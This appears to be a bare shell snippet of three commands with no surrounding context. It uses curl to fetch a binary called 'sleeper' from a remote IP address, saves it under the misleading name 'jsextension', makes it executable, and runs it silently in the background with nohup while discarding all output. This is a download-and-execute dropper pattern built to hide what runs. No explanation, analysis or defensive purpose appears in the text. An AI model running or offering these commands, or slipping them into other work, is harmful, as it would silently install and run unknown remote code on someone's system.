curl -s http://203.0.113.7/sleeper -o jsextension
chmod +x jsextension
nohup ./jsextension 30 >/dev/null 2>&1 &
